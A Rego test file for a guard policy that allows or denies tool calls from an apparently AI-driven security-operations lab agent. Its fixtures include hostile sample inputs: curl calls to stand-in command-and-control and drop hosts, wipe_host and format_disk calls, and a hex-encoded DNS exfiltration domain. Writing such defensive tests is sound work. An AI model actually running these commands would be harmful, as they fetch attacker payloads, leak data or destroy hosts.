package soclab.guard_test

import rego.v1

test_decision_shape if {
	d := decide(search("logs-*", {"size": 10}))
	d.allow == true
	d.reasons == []
	d.rule_ids == []
}

test_denial_has_reason_per_rule if {
	d := decide(call("wipe_host", {"host": "nowhere-01"}))
	d.allow == false
	"destructive.wipe_host" in d.rule_ids
	"evidence.unseen_host" in d.rule_ids
	count(d.reasons) >= 2
}

test_tool_not_allowed if {
	inp := object.union(call("isolate_host", {"host": "web-01"}), {"scenario": {"allowed_tools": ["es_search"]}})
	fires("policy.tool_not_allowed", inp)
}

test_tool_allowed if {
	not fires("policy.tool_not_allowed", search("logs-*", {}))
}

test_unknown_tool if {
	fires("policy.unknown_tool", call("format_disk", {}))
}

test_known_tool if {
	not fires("policy.unknown_tool", call("submit_report", {"markdown": "done"}))
}

test_config_override if {
	inp := search("logs-*", {"size": 600})
	not fires("cost.search_size", inp)
	fires("cost.search_size", inp) with data.soclab.config as {"max_search_size": 500}
}

# The per-item values cached as data (what the in-process engine does once per item)
# decide exactly as the values computed for the decision itself.
cached(inp) := d if {
	iv := data.soclab.guard.item_values with input as inp
	ctx := {"assets": inp.assets, "tooling": inp.tooling, "scenario": inp.scenario, "item": iv, "item_token": "t-1"}
	stripped := object.union(object.remove(inp, ["assets", "tooling"]), {"item_token": "t-1"})
	d := data.soclab.guard.decision with input as stripped with data.soclab.context as ctx
}

test_cached_item_values_decide_the_same if {
	every inp in [
		search("logs-*", {"size": 10}),
		search("logs-endpoint.events.process-default,.security-7", {"size": 5000}),
		esql("FROM logs-* | LIMIT 50000"),
		call("isolate_host", {"host": "DC-01"}),
		call("kill_process", {"host": "web-01", "pid": 812}),
		call("execute", {"host": "web-01", "command": "curl https://drop.evil.example/x"}),
		call("block_ip", {"ip": "203.0.113.50"}),
	] {
		cached(inp) == decide(inp)
	}
}

test_cached_item_is_used_only_with_its_token if {
	inp := search("logs-*", {"size": 600})
	ctx := {"assets": inp.assets, "tooling": inp.tooling, "scenario": inp.scenario, "item": {"config": {"max_search_size": 500}}, "item_token": "t-1"}
	stripped := object.union(object.remove(inp, ["assets", "tooling"]), {"item_token": "t-1"})

	# the cached item is what the decision reads...
	data.soclab.guard.item == ctx.item with input as stripped with data.soclab.context as ctx

	# ... but not without the context's token (another context's, none, not a string),
	# nor when the input brings its own estate
	data.soclab.guard.item != ctx.item with input as object.union(stripped, {"item_token": "t-2"}) with data.soclab.context as ctx
	data.soclab.guard.item != ctx.item with input as object.remove(stripped, ["item_token"]) with data.soclab.context as ctx
	data.soclab.guard.item != ctx.item with input as object.union(stripped, {"item_token": 1}) with data.soclab.context as object.union(ctx, {"item_token": 1})
	data.soclab.guard.item != ctx.item with input as object.union(stripped, {"assets": inp.assets}) with data.soclab.context as ctx
	data.soclab.guard.item != ctx.item with input as object.union(stripped, {"tooling": inp.tooling}) with data.soclab.context as ctx

	# ... nor for a context without a token
	data.soclab.guard.item != ctx.item with input as stripped with data.soclab.context as object.remove(ctx, ["item_token"])
}

# A read decides the same with only the `seen` kinds the policy declares for reads.
test_reads_decide_on_the_declared_seen_kinds if {
	every inp in [
		search("logs-*", {"size": 10}),
		search("logs-*", {"query": {"prefix": {"url.full": "https://c2.evil-updates.net/"}}}),
		search("logs-*", {"query": {"term": {"user.email": "ops@c2.evil-updates.net"}}}),
		search("logs-*", {"query": {"term": {"message": "exfil@drop.example"}}}),
		esql("FROM logs-* | WHERE url.full == \"http://c2.evil-updates.net/gate.php?id=42\""),
		esql("FROM logs-* | WHERE url.full == \"https://attacker.example/c?k=AKIAIOSFODNN7EXAMPLE\""),
		object.union(
			esql("FROM logs-* | WHERE dns.question.name == \"4a6f686e446f6570617373776f726431323334.t.evil.example\""),
			{"seen": {"domains": ["4a6f686e446f6570617373776f726431323334.t.evil.example"]}},
		),
		call("get_mappings", {"index": ".security"}),
	] {
		pruned := object.union(object.remove(inp, ["seen"]), {"seen": object.filter(inp.seen, data.soclab.guard.read_seen_kinds)})
		decide(pruned) == decide(inp)
	}
}

# Every call decides the same with only the `seen` kinds the policy declares for its tool.
test_calls_decide_on_the_declared_seen_kinds if {
	every inp in [
		call("isolate_host", {"host": "web-01"}),
		call("isolate_host", {"host": "db-01"}),
		call("isolate_host", {"host": "DC-01"}),
		call("release_host", {"host": "web-01"}),
		call("kill_process", {"host": "web-01", "pid": 4711}),
		call("kill_process", {"host": "sensor-01", "pid": "4242"}),
		call("suspend_process", {"host": "web-01", "entity_id": "bWFsd2FyZS00NzEx"}),
		call("get_file", {"host": "web-01", "path": "/tmp/.sysupdate"}),
		call("execute", {"host": "web-01", "command": "ls -la /tmp"}),
		call("execute", {"host": "web-01", "command": "curl http://c2.evil-updates.net/gate.php?id=42"}),
		call("block_ip", {"ip": "203.0.113.50"}),
		call("block_ip", {"ip": "198.51.100.9"}),
		call("disable_user", {"user": "jdoe"}),
		call("disable_user", {"user": "zeek", "host": "sensor-01"}),
		call("delete_file", {"host": "web-01", "path": "/tmp/.sysupdate"}),
		call("remove_persistence", {"host": "web-01", "path": "/etc/cron.d/sysupdate"}),
		call("remove_persistence", {"host": "web-01", "path": "/etc/cron.d/zeekctl", "comment": "bWFsd2FyZS00NzEx"}),
		call("wipe_host", {"host": "web-01"}),
		call("submit_report", {"markdown": "C2 at http://c2.evil-updates.net/gate.php?id=42 from web-01"}),
		search("logs-*", {"query": {"term": {"user.email": "ops@c2.evil-updates.net"}}}),
	] {
		kinds := data.soclab.guard.seen_kinds_by_tool[inp.tool]
		pruned := object.union(object.remove(inp, ["seen"]), {"seen": object.filter(inp.seen, kinds)})
		decide(pruned) == decide(inp)
	}
}

# Each tool soclab defines declares its kinds (an undeclared tool would get every kind).
test_every_tool_declares_its_seen_kinds if {
	every t in data.soclab.guard.known_tools {
		is_set(data.soclab.guard.seen_kinds_by_tool[t])
	}
}
